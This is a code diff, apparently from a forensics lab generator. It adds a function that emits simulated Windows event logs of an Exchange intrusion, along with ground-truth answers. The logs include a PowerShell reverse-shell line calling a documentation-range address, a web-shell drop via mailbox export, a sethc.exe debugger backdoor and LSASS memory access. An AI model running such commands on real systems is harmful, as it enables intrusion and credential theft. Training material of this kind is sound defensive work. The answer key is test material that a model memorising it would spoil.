@@ -132,6 +132,34 @@ void tell_events_planted(struct lab *l)
     truth_list(l, "must_not", "mara.admin");
 }
 
+/* More of what one record proves alone: pages by other ways, keys, tools, a door at the sign-in screen. */
+void tell_events_more(struct lab *l)
+{
+    static const char *const page[] = { "aspnet_client/sieve.aspx", "aspnet_client/colander.aspx", "aspnet_client/strainer.aspx" };
+    static const char *const way[] = { "memory of LSASS", "machine key of a web application", "sethc.exe", "S-1-5-21-4242-1717-31337-501" };
+    int64_t     t = at("2021-03-02T22:00:00");
+    const char *root = l->webroot_win, *system = pool_fmt(&l->keep, "%s/NT AUTHORITY/SYSTEM", l->domain);
+
+    ev_ordinary(l, ALL);
+    EV(l, CH_MANAGEMENT, 1, t, "Cmdlet", "New-MailboxExportRequest", "Parameters", "-Mailbox \"info\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\sieve.aspx\"", "Caller", system);
+    EV(l, CH_DEFENDER, 1117, t + TIME_MINUTE, "Threat Name", "Backdoor:ASP/Chopper.F!dha", "Path", pool_fmt(&l->keep, "file:_%s\\aspnet_client\\colander.aspx", root), "Action ID", "2", "Action Name", "Quarantine");
+    EV(l, CH_BITS, 16403, t + 2 * TIME_MINUTE, "jobTitle", "a", "RemoteName", "http://203.0.113.77/s.txt", "LocalName", pool_fmt(&l->keep, "%s\\aspnet_client\\strainer.aspx", root));
+    EV(l, CH_APPLICATION, 1316, t + 3 * TIME_MINUTE, "Code", "4009", "Message", "Viewstate verification failed. Reason: Viewstate was invalid.", "Detail", "50204", "Url", pool_fmt(&l->keep, "https://%s/ecp/default.aspx", l->host), "Path", "/ecp/default.aspx", "Client", "203.0.113.77",
+       "Reason", "Viewstate verification failed. Reason: Viewstate was invalid.", "ClientIp", "203.0.113.77", "Port", "40112", "PersistedState", "dDwxMjM0Oz4=", "ViewStatePath", "/ecp/default.aspx");
+    EV(l, CH_POWERSHELL, 4104, t + 4 * TIME_MINUTE, "ScriptBlockText", "$c = New-Object Net.Sockets.TCPClient('203.0.113.77', 443); $s = $c.GetStream(); <# read #> iex $d", "Path", "C:\\Windows\\Temp\\c.ps1");
+    EV(l, CH_SYSMON, 13, t + 5 * TIME_MINUTE, "Image", SYS32 "reg.exe", "TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger", "Details", SYS32 "cmd.exe");
+    EV(l, CH_SECURITY, 4732, t + 6 * TIME_MINUTE, "MemberSid", "S-1-5-21-4242-1717-31337-501");
+    EV(l, CH_SYSMON, 10, t + 7 * TIME_MINUTE, "SourceImage", "C:\\Windows\\Temp\\p.exe", "TargetImage", SYS32 "lsass.exe", "GrantedAccess", "0x1fffff", "CallTrace", SYS32 "ntdll.dll+9f8a4|" SYS32 "dbgcore.dll+64a2");
+    entered(l, 0);                          /* a page that was there is an entry; whose, nothing tells */
+    verdict(l, "back_door");
+    truth_text(l, "back_door.state", "unknown");
+    for (size_t i = 0; i < sizeof way / sizeof *way; i++)
+        truth_list(l, "ways_back", way[i]);
+    for (size_t i = 0; i < sizeof page / sizeof *page; i++)
+        truth_door(l, win_path(l, web(l, page[i])), "removed", "no_evidence_available");
+    truth_list(l, "must_not", "mara.admin");
+}
+
 /* A page placed, used and deleted; what it did on the server stands in the event logs. */
 static const char *story(struct lab *l, const char *page, const char *url)
 {
